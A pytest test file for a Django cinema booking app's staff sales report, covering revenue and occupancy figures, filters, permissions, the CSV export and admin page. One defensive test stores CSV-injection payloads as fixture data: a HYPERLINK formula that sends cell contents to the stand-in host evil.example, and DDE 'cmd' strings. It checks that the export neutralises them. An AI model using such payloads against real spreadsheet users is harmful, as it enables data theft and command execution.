"""The staff's sales report: numbers checked against figures computed here independently, constant queries,
the CSV, the admin page, permissions and parameter errors."""
import csv
import io
import random
import zoneinfo
from collections import defaultdict
from datetime import datetime, time, timedelta
from decimal import ROUND_HALF_UP, Decimal

import pytest
from django.test import Client
from django.utils import timezone

from core.services import booking, holds
from orders import services as orders
from reports.selectors import sales_report
from tests.conftest import client_for
from tests.factories import CinemaFactory, MovieFactory, ScreenFactory, UserFactory
from tests.seat_prices import set_seat_prices
from tests.web_fixtures import AUDITORIUM, PRICES, laid_out_show
from tickets import services as tickets

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()


def _at(days: int, hour: int) -> datetime:
    return timezone.make_aware(datetime.combine(TODAY + timedelta(days=days), time(hour, 0)))


def _pct(part, whole) -> str:
    return str((Decimal(part) * 100 / Decimal(whole)).quantize(Decimal("0.1"), rounding=ROUND_HALF_UP))


SEAT_PRICE = {}  # seat number -> price, from the auditorium's layout and prices (not from the database)
for _number, _seat in enumerate((seat for row in AUDITORIUM["rows"] for seat in row["seats"] if seat), start=1):
    SEAT_PRICE[_number] = Decimal(PRICES[_seat["category"]])


@pytest.fixture
def sales(settings):
    """Random sales on six shows over three days in two cinemas, through the booking services; returns what was
    done, for the expected figures."""
    # Three accounts buy most seats of six shows: far past the per-account limits of unpaid seats (core.limits).
    settings.MAX_SEATS_PER_CUSTOMER_PER_SHOW = settings.MAX_UNPAID_RESERVATIONS_PER_ACCOUNT = 10_000
    rng = random.Random(12)
    movies = [MovieFactory(title="Alpha"), MovieFactory(title="Beta")]
    screens = [ScreenFactory(layout=AUDITORIUM, cinema=CinemaFactory(name="North", time_zone="Europe/Paris")),
               ScreenFactory(layout=AUDITORIUM, cinema=CinemaFactory(name="South", time_zone="Asia/Kolkata"))]
    made = []
    users = [UserFactory() for _ in range(3)]
    for day in (1, 2, 3):
        for index, movie in enumerate(movies):
            screen = screens[index]
            zone = zoneinfo.ZoneInfo(screen.cinema.time_zone)
            when = datetime.combine(TODAY + timedelta(days=day), time(18 + index, 0), tzinfo=zone)
            show = laid_out_show(movie=movie, screen=screen, when=when)
            seats = rng.sample(range(1, show.total_seats + 1), rng.randint(0, 30))
            sold, cancelled, revenue = 0, 0, Decimal("0.00")
            for seat in seats:
                made_booking = booking.booking_create(user=rng.choice(users), show_id=show.pk, seat_number=seat)
                if rng.random() < 0.2:
                    booking.booking_cancel(user=made_booking.user, booking_id=made_booking.pk)
                    cancelled += 1
                else:
                    sold += 1
                    revenue += SEAT_PRICE[seat]
            made.append({"show": show, "day": TODAY + timedelta(days=day), "sold": sold, "cancelled": cancelled,
                         "revenue": revenue, "cinema": screen.cinema})
    laid_out_show(movie=movies[0], screen=screens[0], when=_at(40, 20))  # outside the period asked for below
    return made


def test_rows_days_movies_and_totals_match_independently_computed_figures(sales):
    report = sales_report(date_from=TODAY, date_to=TODAY + timedelta(days=5)).as_dict()
    assert [(r["show_id"], r["day"], r["tickets_sold"], r["cancelled"], r["capacity"], r["occupancy_percent"],
             r["revenue"]) for r in report["rows"]] == [
        (m["show"].pk, m["day"].isoformat(), m["sold"], m["cancelled"], m["show"].total_seats,
         _pct(m["sold"], m["show"].total_seats), str(m["revenue"]))
        for m in sorted(sales, key=lambda m: m["show"].date_time)]
    per_day, per_movie = defaultdict(lambda: [0, 0, 0, Decimal(0)]), defaultdict(lambda: [0, 0, 0, Decimal(0)])
    for m in sales:
        for bucket in (per_day[m["day"].isoformat()], per_movie[m["show"].movie.title]):
            bucket[0] += m["sold"]
            bucket[1] += m["show"].total_seats
            bucket[2] += m["cancelled"]
            bucket[3] += m["revenue"]
    assert {d["key"]: [d["tickets_sold"], d["capacity"], d["cancelled"], Decimal(d["revenue"])]
            for d in report["days"]} == dict(per_day)
    assert {m["label"]: [m["tickets_sold"], m["capacity"], m["cancelled"], Decimal(m["revenue"])]
            for m in report["movies"]} == dict(per_movie)
    total_sold = sum(m["sold"] for m in sales)
    total_capacity = sum(m["show"].total_seats for m in sales)
    assert report["totals"]["tickets_sold"] == total_sold
    assert report["totals"]["occupancy_percent"] == _pct(total_sold, total_capacity)
    assert report["totals"]["revenue"] == str(sum((m["revenue"] for m in sales), Decimal("0.00")))
    assert report["currency"] == "EUR"
    # Direct bookings only: no order refunded anything, no hold was made, the shows are still to come.
    assert {(r["refunds"], r["holds"], r["check_in_rate"]) for r in report["rows"]} == {("0.00", 0, None)}


def test_filters_by_period_movie_and_cinema(sales):
    beta = sales[1]["show"].movie
    report = sales_report(date_from=TODAY + timedelta(days=2), date_to=TODAY + timedelta(days=2), movie_id=beta.pk)
    assert [r.show_id for r in report.rows] == [m["show"].pk for m in sales
                                                if m["day"] == TODAY + timedelta(days=2) and m["show"].movie == beta]
    north = sales[0]["cinema"]
    report = sales_report(date_from=TODAY, date_to=TODAY + timedelta(days=5), cinema_id=north.pk)
    assert {r.show_id for r in report.rows} == {m["show"].pk for m in sales if m["cinema"] == north}


def test_one_query_whatever_the_number_of_bookings(sales, django_assert_num_queries):
    with django_assert_num_queries(1):
        sales_report(date_from=TODAY, date_to=TODAY + timedelta(days=5))
    show = sales[0]["show"]
    free = [n for n in range(1, show.total_seats + 1) if not show.bookings.filter(seat_number=n, status="booked")]
    for start in range(0, len(free), 10):
        booking.booking_create_many(user=UserFactory(), show_id=show.pk, seat_numbers=free[start:start + 10])
    with django_assert_num_queries(1):
        sales_report(date_from=TODAY, date_to=TODAY + timedelta(days=5))


def test_api_is_staff_only_and_answers_the_report(sales, staff_user, user):
    url = f"/reports/sales/?from={TODAY}&to={TODAY + timedelta(days=5)}"
    assert client_for().get(url).status_code == 401
    assert client_for(user).get(url).status_code == 403
    response = client_for(staff_user).get(url)
    assert response.status_code == 200
    assert response.json()["totals"]["tickets_sold"] == sum(m["sold"] for m in sales)


@pytest.mark.parametrize(("query", "parameter", "code"), [
    ("from=yesterday", "from", "invalid_report_parameter"), ("to=2026-02-30", "to", "invalid_report_parameter"),
    ("from=2026-05-02&to=2026-05-01", "to", "invalid_report_parameter"),
    ("from=2020-01-01&to=2026-01-01", "to", "report_period_too_long"),
    ("movie=abc", "movie", "invalid_report_parameter"), ("cinema=-1", "cinema", "invalid_report_parameter"),
    ("movie=%C2%B2", "movie", "invalid_report_parameter"),
    ("movie=99999999999999999999", "movie", "invalid_report_parameter"),
    # Dates at the end of the calendar: a period after them is no date (an OverflowError, a 500, before).
    ("from=9999-12-25&to=9999-12-31", "from", "invalid_report_parameter"),
    ("to=9999-12-31", "to", "invalid_report_parameter"),
])
def test_bad_parameters_are_400_naming_the_parameter(staff_user, query, parameter, code):
    response = client_for(staff_user).get(f"/reports/sales/?{query}")
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == code and set(body) == {"detail", "code", parameter}


def test_the_api_description_documents_every_key_the_report_answers(sales, staff_user, api_client):
    document = api_client.get("/swagger.json").json()
    operation = document["paths"]["/reports/sales/"]["get"]
    definitions = document["definitions"]

    def properties(schema):
        return set(definitions[schema["$ref"].rsplit("/", 1)[1]]["properties"])

    assert operation["tags"] == ["reports"] and {p["name"] for p in operation["parameters"]} == {
        "from", "to", "movie", "cinema"}
    assert set(operation["responses"]) == {"200", "400", "401", "403", "503"}
    assert set(operation["responses"]["400"]["x-error-codes"]) == {"invalid_report_parameter",
                                                                    "report_period_too_long"}
    assert properties(operation["responses"]["400"]["schema"]) == {"detail", "code", "from", "to", "movie",
                                                                   "cinema"}
    body = client_for(staff_user).get(f"/reports/sales/?from={TODAY}&to={TODAY + timedelta(days=5)}").json()
    report = definitions[operation["responses"]["200"]["schema"]["$ref"].rsplit("/", 1)[1]]
    assert set(report["properties"]) == set(body)
    assert properties(report["properties"]["rows"]["items"]) == set(body["rows"][0])
    assert properties(report["properties"]["totals"]) == set(body["totals"]) == set(body["days"][0])


def test_csv_has_the_same_rows(sales, staff_user):
    response = client_for(staff_user).get(f"/reports/sales.csv?from={TODAY}&to={TODAY + timedelta(days=5)}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(int(r["show_id"]), int(r["tickets_sold"]), r["occupancy_percent"], r["revenue"], r["cinema_name"])
            for r in rows] == [
        (m["show"].pk, m["sold"], _pct(m["sold"], m["show"].total_seats), str(m["revenue"]), m["cinema"].name)
        for m in sorted(sales, key=lambda m: m["show"].date_time)]


# Names a spreadsheet would run as formulas (OWASP's CSV injection), stored directly as staff or an old row could.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULA_CINEMA = "+cmd|' /C calc'!A0"
FORMULA_SCREENS = ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_are_text(staff_user):
    movie = MovieFactory(title=FORMULA_TITLE)
    cinema = CinemaFactory(name=FORMULA_CINEMA)
    shows = [laid_out_show(movie=movie, screen=ScreenFactory(layout=AUDITORIUM, cinema=cinema, name=name),
                           when=_at(1, 10 + index)) for index, name in enumerate(FORMULA_SCREENS)]
    booking.booking_create(user=UserFactory(), show_id=shows[0].pk, seat_number=1)
    response = client_for(staff_user).get(f"/reports/sales.csv?from={TODAY}&to={TODAY + timedelta(days=2)}")
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert len(rows) == len(FORMULA_SCREENS)
    for row in rows:
        # A leading quote is how a spreadsheet is told "text"; what follows it is the stored name.
        assert row["movie_title"] == "'" + FORMULA_TITLE
        assert row["cinema_name"].startswith("'") and row["cinema_name"][1:].replace("\\|", "|") == FORMULA_CINEMA
    screens = [row["screen_name"] for row in rows]
    assert all(name.startswith("'") for name in screens), screens
    assert [name[1:].replace("\\|", "|") for name in screens] == FORMULA_SCREENS
    # Numbers, negative ones included, stay numbers.
    assert rows[0]["tickets_sold"] == "1" and not rows[0]["revenue"].startswith("'")


def test_admin_page_with_chart_and_tables(sales, staff_user, user):
    client = Client()
    client.force_login(user)
    assert client.get("/admin/reports/sales/").status_code == 302  # not staff: to the admin login
    client.force_login(staff_user)
    page = client.get(f"/admin/reports/sales/?from={TODAY}&to={TODAY + timedelta(days=5)}")
    html = page.content.decode()
    assert page.status_code == 200
    assert "<svg" in html and "Tickets sold per day" in html and "Refunds per day" in html
    assert f"<strong>{sum(m['sold'] for m in sales)}</strong> tickets sold in 6 shows" in html
    assert client.get("/admin/reports/sales/?from=nonsense").status_code == 200  # the error is shown, defaults used


# --- Refunds, holds that turned into orders, check-in -------------------------------------------------------
@pytest.fixture
def funnel(staff_user):
    """Three shows tomorrow with random holds (confirmed, made into orders paid at the box office or left unpaid,
    released, let expire), paid orders cancelled whole or one ticket at a time (refunds), direct bookings, and
    check-ins at the door once the shows start, all through the services. Returns what was done, counted here."""
    rng = random.Random(2024)
    movie = MovieFactory(title="Gamma")
    screen = ScreenFactory(layout=AUDITORIUM, cinema=CinemaFactory(name="East", time_zone="Europe/Madrid"))
    made = []
    for hour in (15, 18, 21):
        show = laid_out_show(movie=movie, screen=screen, when=_at(1, hour))
        free = list(range(1, show.total_seats + 1))
        rng.shuffle(free)
        expected = {"show": show, "holds": 0, "converted": 0, "refunds": Decimal("0.00"), "refunded": 0,
                    "sold": 0, "checked_in": 0}
        active = []  # bookings sold and still active: (booking, can it be checked in)
        for _ in range(rng.randint(4, 9)):
            user = UserFactory()
            seats = sorted(free.pop() for _ in range(rng.randint(1, 3)))
            hold = holds.hold_create(user=user, show_id=show.pk, seat_numbers=seats)
            expected["holds"] += 1
            fate = rng.choice(["confirm", "paid", "paid_cancelled", "paid_one_cancelled", "unpaid", "release",
                               "expire"])
            if fate == "confirm":
                made_bookings = holds.hold_confirm(user=user, hold_id=hold.pk)
                expected["converted"] += 1
                active += [(b, b.payment_status != "unpaid") for b in made_bookings]
            elif fate == "release":
                holds.hold_release(user=user, hold_id=hold.pk)
            elif fate == "expire":
                pass  # never confirmed: it just runs out
            else:
                order = orders.order_create(user=user, hold_id=hold.pk, payment_method="box_office")
                expected["converted"] += 1
                if fate == "unpaid":
                    continue  # pending: it keeps the seats until it expires; nothing sold
                orders.order_mark_paid(order_id=order.pk, staff_user=staff_user)
                order_bookings = list(order.bookings.order_by("seat_number"))
                if fate == "paid_cancelled":
                    orders.order_cancel(user=user, order_id=order.pk)
                    expected["refunds"] += sum(SEAT_PRICE[n] for n in seats)
                    expected["refunded"] += len(seats)
                    continue
                if fate == "paid_one_cancelled":
                    gone = order_bookings.pop(0)
                    booking.booking_cancel(user=user, booking_id=gone.pk)
                    expected["refunds"] += SEAT_PRICE[gone.seat_number]
                    expected["refunded"] += 1
                active += [(b, True) for b in order_bookings]
        for _ in range(rng.randint(0, 4)):  # direct reservations (unpaid: pay at the box office)
            active.append((booking.booking_create(user=UserFactory(), show_id=show.pk, seat_number=free.pop()),
                           False))
        expected["sold"] = len(active)
        for made_booking, admissible in active:
            if admissible and rng.random() < 0.6:
                made_booking.refresh_from_db()
                tickets.checkin(code=made_booking.ticket_code, show_id=show.pk, staff_user=staff_user,
                                now=show.date_time + timedelta(minutes=rng.randint(-20, 10)))
                expected["checked_in"] += 1
        made.append(expected)
    return made


def _report(**kwargs):
    return sales_report(date_from=TODAY, date_to=TODAY + timedelta(days=2), **kwargs).as_dict()


def test_refunds_holds_and_check_ins_match_independently_computed_figures(funnel):
    assert sum(m["refunded"] for m in funnel) and sum(m["checked_in"] for m in funnel)  # the data has them
    after = max(m["show"].date_time for m in funnel) + timedelta(hours=3)

    report = _report(now=after)

    assert [(r["show_id"], r["tickets_sold"], r["refunds"], r["refunded_tickets"], r["holds"], r["holds_converted"],
             r["hold_conversion_percent"], r["checked_in"], r["check_in_rate"]) for r in report["rows"]] == [
        (m["show"].pk, m["sold"], str(m["refunds"]), m["refunded"], m["holds"], m["converted"],
         _pct(m["converted"], m["holds"]), m["checked_in"], _pct(m["checked_in"], m["sold"])) for m in funnel]
    totals = report["totals"]
    assert totals["refunds"] == str(sum((m["refunds"] for m in funnel), Decimal("0.00")))
    assert totals["refunded_tickets"] == sum(m["refunded"] for m in funnel)
    assert (totals["holds"], totals["holds_converted"]) == (sum(m["holds"] for m in funnel),
                                                             sum(m["converted"] for m in funnel))
    assert totals["hold_conversion_percent"] == _pct(totals["holds_converted"], totals["holds"])
    assert totals["check_in_rate"] == _pct(sum(m["checked_in"] for m in funnel), sum(m["sold"] for m in funnel))
    assert report["days"][0]["check_in_rate"] == totals["check_in_rate"]  # one day, one movie
    assert report["movies"][0]["refunds"] == totals["refunds"]


def test_check_in_rate_is_null_until_the_show_starts(funnel):
    first, last = funnel[0]["show"], funnel[-1]["show"]
    report = _report(now=first.date_time + timedelta(minutes=1))

    rates = {r["show_id"]: r["check_in_rate"] for r in report["rows"]}
    assert rates[first.pk] == _pct(funnel[0]["checked_in"], funnel[0]["sold"])
    assert rates[last.pk] is None
    # The totals' rate counts only the started show: the others' check-ins are not in its numerator either.
    assert report["totals"]["check_in_rate"] == rates[first.pk]
    assert _report(now=first.date_time - timedelta(minutes=1))["totals"]["check_in_rate"] is None


def test_a_hold_made_into_an_order_that_could_not_start_its_payment_is_not_converted(show, user):
    set_seat_prices("10.00", show)
    hold = holds.hold_create(user=user, show_id=show.pk, seat_numbers=[1])
    record = show.hold_records.get()
    assert (record.hold_id, record.seat_count, record.converted_at) == (hold.pk, 1, None)
    orders.order_create(user=user, hold_id=hold.pk, payment_method="box_office")
    record.refresh_from_db()
    assert record.converted_to == "order" and record.converted_at is not None
    orders._order_undo(order_id=show.orders.get().pk)  # the provider refused to start the payment
    record.refresh_from_db()
    assert (record.converted_to, record.converted_at) == ("", None)


def test_the_records_outlive_the_holds(funnel):
    from core.models import Hold

    holds.release_expired_holds(now=funnel[-1]["show"].date_time + timedelta(hours=1))
    assert not Hold.objects.exists()  # every hold is gone: confirmed, paid, released, expired
    assert _report()["totals"]["holds"] == sum(m["holds"] for m in funnel)


def test_same_query_count_for_one_booking_and_many(staff_user, django_assert_num_queries):
    show = laid_out_show(movie=MovieFactory(), screen=ScreenFactory(layout=AUDITORIUM), when=_at(1, 20))
    user = UserFactory()
    order = orders.order_create(user=user, hold_id=holds.hold_create(user=user, show_id=show.pk,
                                                                     seat_numbers=[1]).pk,
                                payment_method="box_office")
    orders.order_mark_paid(order_id=order.pk, staff_user=staff_user)
    with django_assert_num_queries(1):
        assert _report()["totals"]["tickets_sold"] == 1
    for start in range(2, show.total_seats - 2, 3):
        buyer = UserFactory()
        paid = orders.order_create(user=buyer, hold_id=holds.hold_create(
            user=buyer, show_id=show.pk, seat_numbers=list(range(start, start + 3))).pk, payment_method="box_office")
        orders.order_mark_paid(order_id=paid.pk, staff_user=staff_user)
        if start % 2:
            orders.order_cancel(user=buyer, order_id=paid.pk)
    for made in show.bookings.filter(status="booked")[:20]:
        tickets.checkin(code=made.ticket_code, show_id=show.pk, staff_user=staff_user, now=show.date_time)
    with django_assert_num_queries(1):
        report = _report(now=show.date_time + timedelta(hours=1))
    assert report["totals"]["checked_in"] == 20 and Decimal(report["totals"]["refunds"]) > 0


def test_admin_page_shows_the_new_columns_and_the_check_in_chart(funnel, staff_user):
    client = Client()
    client.force_login(staff_user)
    html = client.get(f"/admin/reports/sales/?from={TODAY}&to={TODAY + timedelta(days=2)}").content.decode()
    refunds = sum((m["refunds"] for m in funnel), Decimal("0.00"))
    holds_made, converted = sum(m["holds"] for m in funnel), sum(m["converted"] for m in funnel)
    assert "<th>Refunds</th>" in html and "<th>Check-in %</th>" in html
    assert f"refunds {refunds} EUR ({sum(m['refunded'] for m in funnel)} tickets)" in html
    assert f"{converted} of {holds_made} holds turned into orders or reservations" in html
    assert "check-in rate — (no show has started)" in html  # they start tomorrow


def test_csv_carries_the_same_refunds_holds_and_check_ins(funnel, staff_user):
    query = f"from={TODAY}&to={TODAY + timedelta(days=2)}"
    rows = list(csv.DictReader(io.StringIO(client_for(staff_user).get(f"/reports/sales.csv?{query}")
                                           .content.decode())))
    as_json = client_for(staff_user).get(f"/reports/sales/?{query}").json()["rows"]
    columns = ["refunds", "refunded_tickets", "holds", "holds_converted", "hold_conversion_percent", "checked_in",
               "check_in_rate"]
    assert [[r[c] for c in columns] for r in rows] == [["" if j[c] is None else str(j[c]) for c in columns]
                                                       for j in as_json]
    assert [r["refunds"] for r in rows] == [str(m["refunds"]) for m in funnel]
